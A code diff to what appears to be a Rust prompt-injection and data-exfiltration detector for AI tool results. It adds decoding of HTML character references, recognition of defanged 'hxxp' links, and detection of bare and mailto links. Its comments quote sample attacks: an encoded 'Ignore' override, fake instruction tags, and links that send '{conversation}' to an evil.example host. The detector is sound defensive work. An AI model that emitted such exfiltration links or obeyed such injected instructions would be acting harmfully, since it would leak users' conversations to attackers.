@@ -9,7 +9,7 @@
 //! it never holds the text. Which findings remove a tool, block or wrap a
 //! result is the policy's call (`config.rs`), not this module's.
 
-use super::fold::{fold, words, Words};
+use super::fold::{decode_char_refs, fold, words, Words};
 use super::markers::{
     Phrase, Strength, CATCHER_HOSTS, DATA_WORDS, DOTFILES, HTML_TAGS, INSTRUCTION_TAGS, PHRASES,
     SECRET_FILES, SEND_VERBS, SENT_OBJECTS,
@@ -17,6 +17,7 @@ use super::markers::{
 use crate::config::keywords;
 use base64::Engine;
 use serde_json::Value;
+use std::borrow::Cow;
 use std::collections::HashSet;
 
 /// One deterministic check; its word names it in the policy and in audit.
@@ -410,6 +411,16 @@ impl Inspector {
         for h in &folded.hidden {
             walk.mark(Check::InvisibleUnicode, h.reason());
         }
+        // Raw HTML is what a client renders: `&lt;img&gt;` shows as text, so
+        // `html` reads the text as sent. A model reads `&#73;gnore` and
+        // `&lt;IMPORTANT&gt;` as the characters they name (eleventh review):
+        // every other marker reads the text with character references decoded.
+        html(folded.text.as_bytes(), walk);
+        let refs = decode_char_refs(s);
+        let folded = match refs {
+            Cow::Borrowed(_) => folded,
+            Cow::Owned(d) => fold(&d),
+        };
         let text = folded.text.as_str();
         let w = words(text);
         self.phrases(&w, walk);
@@ -417,7 +428,7 @@ impl Inspector {
         instruction_tags(text.as_bytes(), walk);
         secret_paths(text.as_bytes(), walk);
         self.urls(text.as_bytes(), walk);
-        html(text.as_bytes(), walk);
+        self.bare_urls(text.as_bytes(), walk);
         if let Some(o) = others {
             mentions(text.as_bytes(), o, walk);
         }
@@ -501,7 +512,11 @@ impl Inspector {
                 while s > 0 && i - s < 8 && b[s - 1].is_ascii_alphabetic() {
                     s -= 1;
                 }
-                if !matches!(&b[s..i], b"http" | b"https" | b"ftp" | b"ws" | b"wss") {
+                // `hxxp(s)` is how links are "defanged"; a model refangs them.
+                if !matches!(
+                    &b[s..i],
+                    b"http" | b"https" | b"ftp" | b"ws" | b"wss" | b"hxxp" | b"hxxps"
+                ) {
                     i += 3;
                     continue;
                 }
@@ -535,6 +550,62 @@ impl Inspector {
                 walk.mark(
                     Check::Exfiltration,
                     "a markdown image sending data to an outside host",
+                );
+            }
+        }
+    }
+
+    /// Links a model follows without a `scheme://` (eleventh review):
+    /// `mailto:x@evil.example?body={conversation}` and a bare
+    /// `evil.example/log?q={conversation}` with a placeholder for data, or on
+    /// a request-catching host. A bare host needs a dot and a `/` or `?`
+    /// after it, so `e.g.` or `a.b` alone is not a link.
+    fn bare_urls(&self, b: &[u8], walk: &mut Walk) {
+        let mut i = 0;
+        while i < b.len() {
+            let starts = i == 0
+                || matches!(
+                    b[i - 1],
+                    b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'`' | b'(' | b'<'
+                );
+            if !starts || !b[i].is_ascii_alphanumeric() {
+                i += 1;
+                continue;
+            }
+            let end = url_end(b, i);
+            let token = &b[i..end];
+            let authority = match token.starts_with(b"mailto:") {
+                true => Some(7),
+                false => {
+                    let host_len = token
+                        .iter()
+                        .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-')))
+                        .unwrap_or(token.len());
+                    let host = &token[..host_len];
+                    let dotted = host.contains(&b'.') && !host.ends_with(b".");
+                    let then = token.get(host_len);
+                    (dotted && matches!(then, Some(b'/' | b'?'))).then_some(0)
+                }
+            };
+            i = end.max(i + 1);
+            let Some(authority) = authority else { continue };
+            if token.windows(3).any(|w| w == b"://") {
+                continue;
+            }
+            let url = Url::parse(token, authority, &b[end - token.len()..]);
+            let Some(host) = url.host_str() else { continue };
+            if self.allowed(host) {
+                continue;
+            }
+            let catcher = CATCHER_HOSTS.iter().any(|c| {
+                host == *c
+                    || (host.ends_with(c)
+                        && host.as_bytes().get(host.len() - c.len() - 1) == Some(&b'.'))
+            });
+            if catcher || url.has_data_placeholder() {
+                walk.mark(
+                    Check::Exfiltration,
+                    "a link without a scheme with a placeholder for data",
                 );
             }
         }
